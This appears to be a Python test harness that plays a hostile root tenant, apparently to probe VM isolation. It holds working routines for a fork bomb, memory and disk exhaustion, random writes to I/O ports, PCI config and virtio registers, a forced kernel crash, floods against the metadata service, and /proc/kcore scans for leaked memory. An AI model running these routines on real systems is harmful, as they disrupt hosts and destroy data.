"""A tenant with root and all capabilities who means harm: uses up what it can, and breaks what its machine is made of."""
import mmap
import os
import random
import re
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

PAGE = 4096


def burn(seconds, **_):
    """More busy processes than there are processors."""
    code = f"import time\nend = time.time() + {seconds}\nwhile time.time() < end: pass"
    for _ in range(8):
        subprocess.Popen([sys.executable, "-c", code])
    return "burning"


def hog(**_):
    """Takes memory until somebody stops it."""
    code = "kept = []\nwhile True: kept.append(b'x' * (16 << 20))"
    return subprocess.run([sys.executable, "-c", code], stderr=subprocess.DEVNULL).returncode


def bomb(seconds, **_):
    """Forks as fast as it can, children included."""
    code = "import os\nwhile True:\n  try: os.fork()\n  except OSError: pass"
    child = subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
    time.sleep(seconds)
    for _ in range(200):
        try:
            os.killpg(child.pid, signal.SIGKILL)
        except ProcessLookupError:
            break
        time.sleep(0.05)
    child.wait()
    return "over"


def fill(mib, **_):
    """Claims the whole disk, then writes some of it for good."""
    names, total = [], 0
    try:
        while True:
            names.append(f"/full-{len(names)}")
            with open(names[-1], "wb") as f:
                os.posix_fallocate(f.fileno(), 0, 256 << 20)
            total += 256
    except OSError as error:
        full = error.errno
    for name in names:
        os.unlink(name)
    with open("/written", "wb") as f:
        for _ in range(mib):
            f.write(os.urandom(1 << 20))
        os.fsync(f.fileno())
    os.unlink("/written")
    return [total, full]


def devices(**_):
    """What hangs on the bus, as vendor:device."""
    base = "/sys/bus/pci/devices"
    read = lambda path: open(path).read().strip().removeprefix("0x")
    return sorted(f"{read(f'{base}/{d}/vendor')}:{read(f'{base}/{d}/device')}" for d in os.listdir(base))


def writable_sys():
    subprocess.run(["mount", "-o", "remount,rw", "/sys"], check=True)


def node(name, major, minor):
    path = f"/dev/{name}-raw"
    if not os.path.exists(path):
        os.mknod(path, 0o600 | 0o020000, os.makedev(major, minor))
    return path


def mad_ports(seed):
    chance = random.Random(seed)
    fd = os.open(node("port", 1, 4), os.O_RDWR)
    while True:
        os.pwrite(fd, bytes([chance.randrange(256)]), chance.randrange(65536))


def mad_config(seed):
    writable_sys()
    chance = random.Random(seed)
    base = "/sys/bus/pci/devices"
    files = [os.open(f"{base}/{d}/config", os.O_RDWR) for d in sorted(os.listdir(base))]
    while True:
        os.pwrite(chance.choice(files), chance.randbytes(4), chance.randrange(0, 256, 4))


def mad_queues(seed):
    """Registers of the virtio devices: queue addresses, sizes, notifications."""
    writable_sys()
    chance = random.Random(seed)
    base = "/sys/bus/pci/devices"
    maps = []
    for device in sorted(os.listdir(base)):
        if open(f"{base}/{device}/vendor").read().strip() != "0x1af4":
            continue
        for bar in range(6):
            path = f"{base}/{device}/resource{bar}"
            try:
                fd = os.open(path, os.O_RDWR)
                maps.append(mmap.mmap(fd, os.fstat(fd).st_size))
            except (OSError, ValueError):
                pass
    while True:
        memory = chance.choice(maps)
        at = chance.randrange(0, min(len(memory), 0x4000) - 4, 2)
        memory[at : at + 4] = chance.randbytes(4)


def mad_channel(seed):
    """Takes the agent's port away from it and talks nonsense to the host."""
    writable_sys()
    chance = random.Random(seed)
    driver = "/sys/bus/virtio/drivers/virtio_console"
    device = next(name for name in os.listdir(driver) if name.startswith("virtio"))

    def nonsense():
        while True:
            for name in os.listdir("/sys/class/virtio-ports"):
                try:
                    major, minor = open(f"/sys/class/virtio-ports/{name}/dev").read().split(":")
                    fd = os.open(node(f"{name}-{major}-{minor}", int(major), int(minor)), os.O_RDWR)
                    while True:
                        os.write(fd, chance.randbytes(chance.randrange(1, 65536)))
                except (OSError, ValueError):
                    pass

    threading.Thread(target=nonsense, daemon=True).start()
    for action in ("unbind", "bind"):
        with open(f"{driver}/{action}", "w") as f:
            f.write(device)
    time.sleep(60)


def mad_modules(seed):
    """Whoever has all capabilities may crash his own kernel."""
    with open("/proc/sysrq-trigger", "w") as f:
        f.write("c")


def go_mad(label, seed=1, **_):
    threading.Thread(target=globals()[f"mad_{label}"], args=(seed,), daemon=True).start()
    return "mad"


def flood(seconds, **_):
    """Hundreds of connections to everything that the host answers, with nonsense in them."""
    chance = random.Random(2)
    end, opened = time.time() + seconds, []
    while time.time() < end:
        for host, port in (("169.254.169.254", 80), ("169.254.169.252", 80), ("169.254.53.53", 53)):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((host, port))
            opened.append(s)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            for _ in range(20):
                udp.sendto(chance.randbytes(chance.randrange(1, 512)), ("169.254.53.53", 53))
        for s in opened[-60:]:
            try:
                s.send(chance.randbytes(4000))
            except OSError:
                pass
        if len(opened) > 600:
            for s in opened[:300]:
                s.close()
            opened = opened[300:]
        time.sleep(0.02)
    for s in opened:
        s.close()
    return "over"


def mark(mib, **_):
    """Fills memory and disk with pages that nobody else makes: 16 random bytes again and again."""
    global marked
    half = os.urandom(8)
    word = half + bytes(b ^ 0xA5 for b in half)
    marked = bytearray(word * (mib << 16))
    with open("/marked", "wb") as f:
        f.write(word * (8 << 16))
        os.fsync(f.fileno())
    return "marked"


def is_marked(page):
    word = page[:16]
    return (
        page == word * 256 and any(word) and word[8:] == bytes(b ^ 0xA5 for b in word[:8])
    )


def marked_pages(mib=0, **_):
    """Marked pages in the whole memory of this machine, as its kernel shows it to root. With `mib`, until so many are found."""
    found = looked = 0
    with open("/proc/iomem") as f:
        ranges = [tuple(int(x, 16) for x in m) for m in re.findall(r"^([0-9a-f]+)-([0-9a-f]+) : System RAM", f.read(), re.M)]
    with open("/proc/kcore", "rb", buffering=0) as core:
        head = core.read(64)
        offset, count = struct.unpack_from("<Q", head, 32)[0], struct.unpack_from("<H", head, 56)[0]
        core.seek(offset)
        table = core.read(56 * count)
        loads = [struct.unpack_from("<IIQQQQQQ", table, 56 * i) for i in range(count)]
        for kind, _, at, _, physical, size, *_ in loads:
            if kind != 1 or not any(first <= physical <= last for first, last in ranges):
                continue
            for begin in range(0, size, 1 << 20):
                if mib and found >= mib << 8:
                    return [looked, found]
                core.seek(at + begin)
                chunk = core.read(min(1 << 20, size - begin))
                for start in range(0, len(chunk), PAGE):
                    looked += 1
                    # Most pages differ within their first bytes, or are empty.
                    if chunk[start : start + 16] == chunk[start + 16 : start + 32] and is_marked(chunk[start : start + PAGE]):
                        found += 1
    return [looked, found]


def metadata_ttl(**_):
    """How many routers an answer of the metadata service could pass."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as wire:
        wire.settimeout(5)
        with socket.create_connection(("169.254.169.254", 80), timeout=5):
            while True:
                packet = wire.recv(2000)
                if packet[12:16] == socket.inet_aton("169.254.169.254"):
                    return packet[8]


actions = {f.__name__: f for f in (burn, hog, bomb, fill, devices, go_mad, flood, mark, marked_pages, metadata_ttl)}
